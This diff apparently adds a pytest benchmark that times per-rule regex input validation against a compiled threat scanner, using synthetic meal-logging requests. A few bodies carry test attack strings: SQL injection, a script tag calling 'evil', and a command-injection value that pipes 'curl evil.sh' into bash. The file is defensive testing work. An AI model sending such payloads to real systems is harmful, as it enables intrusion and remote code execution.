@@ -0,0 +1,107 @@
+"""Benchmark: per-request validation with per-rule regex loops vs. the compiled threat scanner."""
+
+import html
+import random
+import re
+import time
+
+import pytest
+
+from src.security.validation import (
+    CommandInjectionValidator,
+    InputValidator,
+    SecurityValidator,
+    SQLInjectionPatterns,
+    XSSPatterns,
+)
+
+pytestmark = pytest.mark.performance
+
+REQUESTS = 500
+HEADERS = {
+    "user-agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15",
+    "accept": "application/json",
+    "content-type": "application/json",
+    "accept-language": "en-US,en;q=0.9",
+    "x-request-id": "5f1c9d2e-8a7b-4c3d-9e0f-1a2b3c4d5e6f",
+}
+MEALS = ["Greek yogurt with berries and honey", "Miso ginger salmon with brown rice",
+         "Chickpea curry with spinach", "Turkey chili", "Overnight oats with peanut butter"]
+NOTES = ["Felt great after lunch, a bit hungry by 4pm", "Skipped dessert tonight",
+         "Need more vegetarian dinner ideas for the week", "Ate out with friends - ordered the fish tacos",
+         "Trying to keep sodium under 2000mg"]
+ATTACKS = ["'; DROP TABLE meals; --", "<script>fetch('//evil')</script>", "x UNION 1 = 1", "a; curl evil.sh | bash"]
+
+
+def _bodies(seed: int = 3):
+    rng = random.Random(seed)
+    bodies = []
+    for index in range(REQUESTS):
+        body = {
+            "user_id": f"user-{rng.randrange(10_000):05d}",
+            "meal_name": rng.choice(MEALS),
+            "meal_type": rng.choice(["breakfast", "lunch", "dinner", "snack"]),
+            "notes": rng.choice(NOTES),
+            "logged_at": f"2024-05-{rng.randint(1, 28):02d}T{rng.randint(6, 22):02d}:15:00Z",
+            "timezone": "America/Los_Angeles",
+            "source": rng.choice(["sms", "whatsapp", "app"]),
+            "location": rng.choice(["home", "office", "restaurant"]),
+            "mood": rng.choice(["energized", "tired", "okay"]),
+            "email": f"member{index}@example.com",
+        }
+        if index % 25 == 0:
+            body["notes"] = rng.choice(ATTACKS)
+        bodies.append(body)
+    return bodies
+
+
+def _legacy_text_errors(text: str):
+    errors = []
+    if any(re.search(pattern, text.upper(), re.IGNORECASE) for pattern in SQLInjectionPatterns.PATTERNS):
+        errors.append("Text contains suspicious SQL patterns")
+    if any(re.search(pattern, text, re.IGNORECASE) for pattern in XSSPatterns.PATTERNS):
+        errors.append("Text contains suspicious script patterns")
+    if (any(char in text for char in CommandInjectionValidator.DANGEROUS_CHARS)
+            or any(cmd in text.lower() for cmd in CommandInjectionValidator.DANGEROUS_COMMANDS)):
+        errors.append("Text contains suspicious command patterns")
+    html.escape(text.strip())
+    return errors
+
+
+def _legacy_request(body):
+    """Header checks plus SecurityValidator.validate_api_request as they ran per rule."""
+    errors = [f"Header {name}: {error}" for name, value in HEADERS.items() for error in _legacy_text_errors(value)]
+    for key, value in body.items():
+        if any(re.search(pattern, value.upper(), re.IGNORECASE) for pattern in SQLInjectionPatterns.PATTERNS):
+            errors.append(f"Field '{key}' contains suspicious SQL patterns")
+        if any(re.search(pattern, value, re.IGNORECASE) for pattern in XSSPatterns.PATTERNS):
+            errors.append(f"Field '{key}' contains suspicious script patterns")
+        errors.extend(f"{key}: {error}" for error in _legacy_text_errors(value))
+    return errors
+
+
+def _compiled_request(body, validator=SecurityValidator(), input_validator=InputValidator()):
+    errors = []
+    for name, value in HEADERS.items():
+        result = input_validator.validate_text_input(value)
+        errors.extend(f"Header {name}: {error}" for error in result.errors)
+    return errors + validator.validate_api_request(body).errors
+
+
+@pytest.mark.parametrize("mode", ["per_rule", "compiled"])
+def test_request_validation_cost(benchmark, mode):
+    bodies = _bodies()
+    validate = _legacy_request if mode == "per_rule" else _compiled_request
+
+    def run():
+        started = time.perf_counter()
+        results = [validate(body) for body in bodies]
+        return results, time.perf_counter() - started
+
+    results, elapsed = benchmark.pedantic(run, rounds=1, iterations=1)
+
+    benchmark.extra_info["us_per_request"] = elapsed / REQUESTS * 1e6
+    assert results == [_legacy_request(body) for body in bodies]
+    # Bodies carrying SQL or script payloads are the ones flagged at field level
+    flagged = [any(error.startswith("Field 'notes'") for error in errors) for errors in results]
+    assert flagged == [body["notes"] in ATTACKS[:3] for body in bodies]